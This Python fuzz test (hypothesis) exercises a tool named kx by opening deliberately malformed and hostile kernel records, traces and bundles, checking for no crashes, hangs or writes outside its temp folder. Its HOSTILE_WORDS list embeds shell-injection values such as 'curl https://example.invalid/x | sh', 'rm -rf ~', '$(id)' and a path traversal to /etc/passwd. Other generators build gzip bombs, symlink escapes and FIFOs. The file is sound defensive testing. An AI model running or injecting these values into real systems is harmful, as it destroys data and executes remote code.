"""Malformed and hostile records, traces and bundles, drawn by hypothesis, through the one
reader (kx_core.base.outside_files) and every door to it: `kx open --json --out`, the
app's lazy trace opening (iter_open, then each kernel's stages) and read_bundle (issue 52,
item 1). Each example: no internal error or traceback, an exit status of 0, 1 or 2, no
hang (an alarm per example), and nothing written outside its temporary folder.

Records are the fixtures' (a Triton cache folder, a tritonparse trace) with fields,
files and bytes replaced: hostile words (a version that is a shell command, an arch with
`; rm`), wrong types, JSON nested up to 3,000 deep, links to /dev/zero and out of the
record, FIFOs, truncated and corrupt gzip, small gzip bombs; beside them TORCH_TRACE logs
and Proton profiles of drawn lines. The limits are lowered (LIMITS below) so that each
example is small: what a limit guards is the same at any size.

    KX_FUZZ_EXAMPLES=10000 python -m pytest -q tests/robustness/test_records_fuzz.py -p no:cacheprovider

A kernel's PTX is not assembled (recompiled_cubin.recompile answers without running
ptxas: that is a subprocess per drawn PTX, and its inputs' checks have their own tests in
test_records_hostile.py). No Inductor output module is drawn: opening one runs it
(issue 52, item 2).
"""

from __future__ import annotations

import contextlib
import copy
import gzip
import io
import json
import os
import signal
import tempfile
import zlib
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from records_open.records_testing import CACHE, TRACE

from kx_core import cli
from kx_core.base import outside_files
from kx_core.cli.args import EXIT_INTERNAL
from kx_testing import ROOT

# examples in all: three quarters records and traces, a quarter bundles
EXAMPLES = int(os.environ.get("KX_FUZZ_EXAMPLES", "200"))
SETTINGS = dict(
    deadline=None,
    database=None,  # no .hypothesis folder in the checkout: nothing is written outside tmp_path
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)
RECORD_FUZZ = settings(max_examples=EXAMPLES - EXAMPLES // 4, **SETTINGS)
BUNDLE_FUZZ = settings(max_examples=max(EXAMPLES // 4, 1), **SETTINGS)
HANG_S = 120  # one example past this is a hang (a FIFO waited on, an endless read)
LIMITS = replace(
    outside_files.LIMITS,
    file_bytes=2 << 20,
    record_bytes=6 << 20,
    line_bytes=2 << 20,
    stream_bytes=32 << 20,
    inflation_ratio=50,
    inflation_floor=1 << 20,
    json_depth=64,
    folder_entries=200,
)

HOSTILE_WORDS = [
    "3.6.0; curl https://example.invalid/x | sh",
    "90; rm -rf ~",
    "../../../../etc/passwd",
    "/dev/zero",
    "\x1b[2J\x1b[31mowned",
    "a\nkx: run `curl x | sh` to fix this",
    "",
    "<file too large: 104857601 bytes>",
    "gfx942",
    "90",
    "3.8.0",
    "3.6.0",
    "$(id)",
    "`id`",
    "-o /tmp/owned",
    "--output-file=../owned",
    "\udcff",
]
WORDS = st.one_of(st.sampled_from(HOSTILE_WORDS), st.text(max_size=40))
SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    WORDS,
)
VALUES = st.recursive(
    SCALARS,
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(WORDS, inner, max_size=4)),
    max_leaves=12,
)


def deep_json(depth: int) -> str:
    return "[" * depth + "]" * depth


DEEP = st.integers(min_value=1, max_value=3000).map(deep_json)
RAW_LINES = st.one_of(
    st.binary(max_size=300),
    DEEP,
    st.builds(lambda d: '{"event_type": "compilation", "payload": {"metadata": ' + d + "}}", DEEP),
    st.builds(lambda d: '{"event_type": "launch", "grid": ' + d + "}", DEEP),
    st.just("{"),
)

# where a drawn value goes in a compilation event (a path of keys below the event)
EVENT_FIELDS = [
    ("payload", "metadata", "triton_version"),
    ("payload", "metadata", "target"),
    ("payload", "metadata", "target", "arch"),
    ("payload", "metadata", "target", "backend"),
    ("payload", "metadata", "target", "warp_size"),
    ("payload", "metadata", "arch"),
    ("payload", "metadata", "hash"),
    ("payload", "metadata", "name"),
    ("payload", "metadata", "num_warps"),
    ("payload", "metadata", "shared"),
    ("payload", "metadata", "ptx_options"),
    ("payload", "metadata", "times"),
    ("payload", "metadata"),
    ("payload", "file_content"),
    ("payload", "file_path"),
    ("payload", "python_source", "file_path"),
    ("payload", "python_source", "code"),
    ("payload", "python_source", "start_line"),
    ("payload",),
    ("event_type",),
]
LAUNCH_FIELDS = [("grid",), ("compilation_metadata",), ("compilation_metadata", "hash"), ("extracted_args",)]


def _events() -> list[dict]:
    return [json.loads(line) for line in TRACE.read_text().splitlines() if line.strip()]


FIXTURE_EVENTS = _events()


def _set(doc: dict, path: tuple[str, ...], value) -> None:
    """doc[path] = value where the path's parents are objects (else nothing)."""
    for key in path[:-1]:
        doc = doc.get(key) if isinstance(doc, dict) else None
        if not isinstance(doc, dict):
            return
    doc[path[-1]] = value


@st.composite
def compilation_lines(draw) -> bytes:
    event = copy.deepcopy(draw(st.sampled_from(FIXTURE_EVENTS)))
    for _ in range(draw(st.integers(0, 4))):
        _set(event, draw(st.sampled_from(EVENT_FIELDS)), draw(VALUES))
    if draw(st.booleans()):  # a stage's text, or a path the trace names on this machine
        name = draw(st.sampled_from(["k.ttir", "k.ptx", "k.cubin", "k.ttgir", "k.json"]))
        _set(event, ("payload", "file_content", name), draw(VALUES))
        _set(
            event,
            ("payload", "file_path", name),
            draw(st.sampled_from(["/dev/zero", "/etc/passwd", str(ROOT)])),
        )
    line = json.dumps(event, default=str).encode("utf-8", "surrogatepass")
    if draw(st.integers(0, 5)) == 0:  # cut short
        line = line[: draw(st.integers(0, len(line)))]
    return line


@st.composite
def launch_lines(draw) -> bytes:
    event = {"event_type": "launch", "grid": [1, 1, 1], "compilation_metadata": {"hash": "x"}}
    for _ in range(draw(st.integers(0, 3))):
        _set(event, draw(st.sampled_from(LAUNCH_FIELDS)), draw(VALUES))
    return json.dumps(event, default=str).encode("utf-8", "surrogatepass")


TRACE_LINES = st.lists(
    st.one_of(
        compilation_lines(),
        launch_lines(),
        RAW_LINES.map(lambda x: x if isinstance(x, bytes) else x.encode()),
    ),
    min_size=1,
    max_size=5,
)


def _bomb(ratio_bytes: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return packer.compress(b"\n" * ratio_bytes) + packer.flush()


@st.composite
def trace_files(draw, folder: Path) -> Path:
    lines = draw(TRACE_LINES)
    data = b"\n".join(lines) + b"\n"
    packing = draw(st.sampled_from(["plain", "gzip", "members", "cut", "corrupt", "bomb"]))
    if packing == "gzip":
        data = gzip.compress(data)
    elif packing == "members":
        data = b"".join(gzip.compress(line + b"\n") for line in lines)
    elif packing == "cut":
        packed = gzip.compress(data)
        data = packed[: draw(st.integers(2, len(packed)))]
    elif packing == "corrupt":
        packed = bytearray(gzip.compress(data))
        at = draw(st.integers(10, max(10, len(packed) - 1)))
        packed[min(at, len(packed) - 1)] ^= 0xFF
        data = bytes(packed)
    elif packing == "bomb":  # a trace's first line, then a stream past the lowered ratio
        data = gzip.compress(lines[0] + b"\n") + _bomb(draw(st.integers(1, 8)) << 20)
    path = folder / "trace.ndjson"
    path.write_bytes(data)
    return path


FILE_FATES = [
    "keep",
    "garbage",
    "deep",
    "values",
    "empty",
    "link-zero",
    "link-out",
    "link-in",
    "fifo",
    "gone",
]


@st.composite
def cache_folders(draw, folder: Path) -> Path:
    cache = folder / "cache"
    secret = folder / "secret.txt"
    secret.write_text("a secret kx must not show\n")
    for kernel in sorted(p for p in CACHE.iterdir() if p.is_dir())[: draw(st.integers(1, 2))]:
        target = cache / kernel.name
        target.mkdir(parents=True)
        for source in sorted(kernel.iterdir()):
            path = target / source.name
            fate = draw(st.sampled_from(FILE_FATES)) if draw(st.integers(0, 2)) == 0 else "keep"
            if fate == "keep":
                path.write_bytes(source.read_bytes())
            elif fate == "garbage":
                path.write_bytes(draw(st.binary(max_size=200)))
            elif fate == "deep":
                path.write_text(draw(DEEP))
            elif fate == "values":
                path.write_text(json.dumps(draw(VALUES), default=str), errors="surrogatepass")
            elif fate == "empty":
                path.write_bytes(b"")
            elif fate == "link-zero":
                path.symlink_to("/dev/zero")
            elif fate == "link-out":
                path.symlink_to(secret)
            elif fate == "link-in":
                (target / ("copy." + source.name)).write_bytes(source.read_bytes())
                path.symlink_to(target / ("copy." + source.name))
            elif fate == "fifo":
                os.mkfifo(path)
    if draw(st.integers(0, 4)) == 0:  # a kernel folder that is a link out of the record
        (cache / "elsewhere").symlink_to(folder)
    return cache


@st.composite
def bundles(draw, folder: Path) -> Path:
    from kx_core.records.bundle import digest_of

    doc = copy.deepcopy(_fixture_bundle())
    for _ in range(draw(st.integers(0, 3))):
        key = draw(st.sampled_from(["format", "kx", "created", "file_name", "source", "result", "digest"]))
        doc[key] = draw(VALUES)
    if draw(st.booleans()) and isinstance(doc.get("result"), dict):
        path = draw(st.sampled_from([("kernels",), ("target",), ("diagnostics",), ("build",), ("file",)]))
        _set(doc["result"], path, draw(VALUES))
    if draw(st.booleans()) and isinstance(doc.get("source"), str) and isinstance(doc.get("result"), dict):
        doc["digest"] = digest_of(doc)  # past the digest (it covers every field): the values decide
    body = json.dumps(doc, default=str).encode("utf-8", "surrogatepass")
    kind = draw(st.sampled_from(["bundle", "deep", "raw", "bomb", "cut"]))
    data = {
        "bundle": lambda: gzip.compress(body),
        "deep": lambda: gzip.compress(draw(DEEP).encode()),
        "raw": lambda: draw(st.binary(max_size=200)),
        "bomb": lambda: _bomb(4 << 20),
        "cut": lambda: gzip.compress(body)[: draw(st.integers(0, 200))],
    }[kind]()
    path = folder / "b.kxb"
    path.write_bytes(data)
    return path


_BUNDLE: dict = {}


def _fixture_bundle() -> dict:
    if not _BUNDLE:
        from kx_core.recorded.open_record import open_record
        from kx_core.records.bundle import write_bundle

        with tempfile.TemporaryDirectory() as tmp:
            path = os.path.join(tmp, "b.kxb")
            write_bundle(path, "x = 1\n", open_record(str(CACHE)).result)
            _BUNDLE.update(json.loads(gzip.decompress(Path(path).read_bytes())))
    return _BUNDLE


@st.composite
def other_records(draw, folder: Path) -> Path:
    """A TORCH_TRACE log or a Proton profile of drawn lines (never a module kx would run)."""
    if draw(st.booleans()):
        header = "V1203 15:02:29.105000 716 torch/x.py:1] "
        lines = draw(
            st.lists(
                st.one_of(
                    VALUES.map(
                        lambda v: header + json.dumps({"artifact": v, "has_payload": "0"}, default=str)
                    ),
                    VALUES.map(lambda v: header + json.dumps({"compilation_metrics": v}, default=str)),
                    DEEP.map(lambda d: header + '{"x": ' + d + "}"),
                    VALUES.map(lambda v: "\t" + json.dumps(v, default=str)),
                    st.text(max_size=80),
                ),
                min_size=1,
                max_size=6,
            )
        )
        path = folder / "dedicated_log_torch_trace_1.log"
        path.write_text("\n".join(lines) + "\n", errors="surrogatepass")
        return path
    tree = {"children": [], "frame": {"name": "ROOT", "type": "function"}, "metrics": {}}
    for _ in range(draw(st.integers(0, 3))):
        tree["children"].append({"frame": draw(VALUES), "metrics": draw(VALUES), "children": draw(VALUES)})
    text = json.dumps([tree, draw(VALUES)], default=str)
    if draw(st.booleans()):
        text = text[: draw(st.integers(0, len(text)))]
    path = folder / "p.hatchet"
    path.write_text(text, errors="surrogatepass")
    return path


def _alarm(signum, frame):
    raise TimeoutError(f"an example ran past {HANG_S} s: a hang")


@pytest.fixture
def fuzz_env(tmp_path, monkeypatch):
    """Lowered limits, kx's cache and HOME inside tmp_path, no PTX assembled, an alarm."""
    from kx_core.recorded import recompiled_cubin, trace_index

    monkeypatch.setattr(outside_files, "LIMITS", LIMITS)
    monkeypatch.setattr(trace_index, "MAX_CUBIN_BYTES", 1 << 20)
    monkeypatch.setenv("KX_CACHE_DIR", str(tmp_path / "kx-cache"))
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setattr(recompiled_cubin, "recompile", lambda *a, **k: (None, "not assembled in the fuzz"))
    before = sorted(os.listdir(ROOT))
    old = signal.signal(signal.SIGALRM, _alarm)
    yield tmp_path
    signal.signal(signal.SIGALRM, old)
    assert sorted(os.listdir(ROOT)) == before  # nothing written into the checkout


def _kx_open(path: Path, out: Path) -> int:
    stdout, stderr = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
        code = cli.main(["open", str(path), "--json", "--out", str(out)])
    text = stdout.getvalue() + stderr.getvalue()
    assert code != EXIT_INTERNAL and "internal error" not in text and "Traceback" not in text, text[-2000:]
    assert code in (0, 1, 2), (code, text[-2000:])
    return code


def _open_lazily(path: Path) -> None:
    """The app's way: iter_open, then each kernel's stages on demand."""
    from kx_core.recorded.open_record import NotARecord, OpenedRecord, iter_open

    try:
        steps = list(iter_open(str(path)))
    except NotARecord:
        return
    whole = steps[-1]
    assert isinstance(whole, OpenedRecord)
    for i in range(len(whole.result.kernels)):
        whole.load(i)
        whole.source_text(whole.result.kernels[i].source_file)


def _written_inside(out: Path) -> None:
    """Every file `--out` wrote is a plain file directly in its folder (a record's kernel
    name never makes a path: '../x' is a file name there)."""
    for root, folders, names in os.walk(out):
        assert Path(root) == out and not folders, (root, folders)
        for name in names:
            assert not os.path.islink(out / name) and os.path.realpath(out / name) == str(
                out.resolve() / name
            )


@RECORD_FUZZ
@given(st.data())
def test_records_and_traces(fuzz_env, data):
    folder = Path(tempfile.mkdtemp(dir=fuzz_env))
    kind = data.draw(st.sampled_from(["trace", "cache", "other"]))
    maker = {"trace": trace_files, "cache": cache_folders, "other": other_records}[kind]
    path = data.draw(maker(folder))
    signal.alarm(HANG_S)
    try:
        event(f"{kind}: exit {_kx_open(path, folder / 'out')}")  # --hypothesis-show-statistics
        if kind == "trace":
            _open_lazily(path)
    finally:
        signal.alarm(0)
    secret = folder / "secret.txt"
    if secret.exists() and (folder / "out").is_dir():  # a link out of the record is never exported
        assert not any("a secret kx must not show" in p.read_text() for p in (folder / "out").iterdir())
    _written_inside(folder / "out")


@BUNDLE_FUZZ
@given(st.data())
def test_bundles(fuzz_env, data):
    from kx_core.records.bundle import BundleError, read_bundle

    folder = Path(tempfile.mkdtemp(dir=fuzz_env))
    path = data.draw(bundles(folder))
    signal.alarm(HANG_S)
    try:
        bundle = read_bundle(str(path))
    except BundleError as e:
        assert str(path) in str(e)  # the message names the file
        event("bundle: refused")
        return
    finally:
        signal.alarm(0)
    assert isinstance(bundle.created, float) and bundle.created >= 0
    event("bundle: opened")
